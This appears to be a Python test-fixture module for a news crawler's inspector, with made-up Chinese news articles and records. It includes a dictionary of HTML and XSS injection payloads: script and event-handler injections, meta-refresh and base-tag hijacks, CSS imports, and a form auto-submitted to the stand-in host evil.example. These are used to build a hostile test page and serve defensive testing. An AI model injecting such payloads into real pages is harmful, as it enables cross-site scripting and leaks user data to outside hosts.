"""Made-up pages and records for the tests of the inspector."""

from __future__ import annotations

import json
from functools import cache
from typing import Any

from newscrawl.demo import mirror
from newscrawl.demo.news import load_news, portal_path
from newscrawl.explain import Explanation, explain
from newscrawl.page import Page

SENTENCES = [
    "云桥区今天上午在滨江公园启动春季植树活动，三百多名市民参加。",
    "活动现场，大家三五成群，挖坑、扶苗、培土、浇水，忙得热火朝天。",
    "到中午十二点，新栽的六百棵香樟和桂花已经站满了江边的一公里步道。",
]
# What each of these does when it is obeyed: sets `owned`, leads away, or asks the host evil.example for something.
_EVIL = "http://evil.example"
HOSTILE = {
    "script": "<script>parent.owned = 1; document.title = 'owned'</script>",
    "handler": "<img src=x onerror='parent.owned = 1'><p onclick='top.owned = 1' onmouseover='top.owned = 1'>p</p>",
    "picture": f'<img src="{_EVIL}/1.png" srcset="{_EVIL}/2.png 2x">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={_EVIL}/refresh">',
    "base": f'<base href="{_EVIL}/" target="_top"><img src="relative.png">',
    "frame": f'<iframe src="{_EVIL}/frame"></iframe><iframe srcdoc="<script>top.owned = 1</script>"></iframe>',
    "object": f'<object data="{_EVIL}/o"></object><embed src="{_EVIL}/e"><applet code=x></applet>',
    "svg": f'<svg onload="parent.owned = 1"><image href="{_EVIL}/svg.png"/><script>top.owned = 1</script></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror='parent.owned = 1'></style></mglyph></table></math>",
    "style": f'<style>@import "{_EVIL}/i.css"; body {{ background: url({_EVIL}/b.png) }}</style>',
    "escaped": rf'<style>p {{ background: \75rl({_EVIL}/c.png); content: image-set("{_EVIL}/d.png" 1x) }}</style>',
    "attribute": f'<p style="background-image: URL( {_EVIL}/s.png )" background="{_EVIL}/t.png">p</p>',
    "link": f'<link rel="stylesheet" href="{_EVIL}/l.css"><link rel="prefetch" href="{_EVIL}/p">',
    "form": f'<form action="{_EVIL}/f"><input autofocus onfocus="parent.owned = 1"><button>x</button></form>'
    "<script>document.forms[0].submit()</script>",
    "address": '<a href="javascript:parent.owned = 1" class="lure">click</a>'
    f'<a href="{_EVIL}/a" ping="{_EVIL}/g" class="lure">and here</a>',
    "media": f'<video src="{_EVIL}/v" poster="{_EVIL}/w" autoplay></video><audio src="{_EVIL}/x"></audio>',
    "template": "<template><script>parent.owned = 1</script></template><noscript><img src=x></noscript>",
    "quotes": "\"></iframe><script>owned = 1</script>' srcdoc='</script><!--><script>",
    "ending": "</script></style></title></textarea></body></html><script>owned = 1</script>",
    "shadow": '<div><template shadowrootmode="open"><script>parent.owned = 1</script></template></div>',
}


@cache
def mirrored(story_id: str = "y115") -> Explanation:
    """The mirror's page of a story, explained; y115 has repairs of three kinds and a doubtful spot."""
    story = next(story for story in load_news() if story.id == story_id)
    page = Page(url=f"http://127.0.0.1:8809{portal_path(story)}", body=mirror.answer(portal_path(story), "").body)
    return explain(page, "demo_mirror")


def hostile_page() -> bytes:
    """An article with all attacks: in its head, in its title, and behind its paragraphs."""
    head = "".join(HOSTILE[name] for name in ("script", "refresh", "base", "style", "link"))
    title = "江边植树活动今天启动</script><script>owned = 1</script>"
    paragraphs = "".join(f"<p>{sentence}</p>" for sentence in SENTENCES)
    return (
        f"<!doctype html><html><head><title>{title}</title>{head}</head><body onload='parent.owned = 1'>"
        f"<h1>{title.replace('<', '&lt;')}</h1><div>2021-03-01 10:00 来源：江汉日报</div><div>{paragraphs}</div>"
        f"{''.join(HOSTILE.values())}</body></html>"
    ).encode()


def article(number: int, **fields: Any) -> dict[str, Any]:
    """A record of an article, whole as far as the inspector looks at it."""
    return {
        "url": f"http://a.example/{number}.html",
        "site": "made",
        "title": f"第{number}篇 江边种树",
        "subtitle": None,
        "published_at": f"2024-01-{number % 28 + 1:02}T08:00:00+08:00",
        "source": "江汉日报",
        "reporters": ["宋佳宁"],
        "correspondents": [],
        "editors": [],
        "body": [*SENTENCES, f"这是第{number}篇的结尾。"],
        "restored": None,
        "junk": [],
        "trace": ["decode: utf-8, the bytes are UTF-8", "title: h1"],
        **fields,
    }


def damaged(number: int, family: str = "A", confidence: float = 0.97) -> dict[str, Any]:
    """A record with a spot in doubt."""
    spot = {"field": "body[0]", "start": 5, "seen": "上午", "candidates": ["上午", "下午"]}
    repairs = {"family": family, "counts": {"annotation": 3}, "unresolved": [spot], "confidence": confidence}
    return article(number, restored=repairs)


def refusal(number: int, reason: str = "too_short", **fields: Any) -> dict[str, Any]:
    """A line of a rejects file."""
    return {
        "url": f"http://a.example/r{number}.html",
        "site": "made",
        "reason": reason,
        "detail": "12 characters",
        "trace": ["extract: general extractor"],
        "fetched_at": "2026-11-22T22:01:10+00:00",
        "http_status": 200,
        "title": None,
        **fields,
    }


def lines(*records: dict[str, Any]) -> bytes:
    """Records as they stand in a file."""
    return "".join(f"{json.dumps(record, ensure_ascii=False)}\n" for record in records).encode()
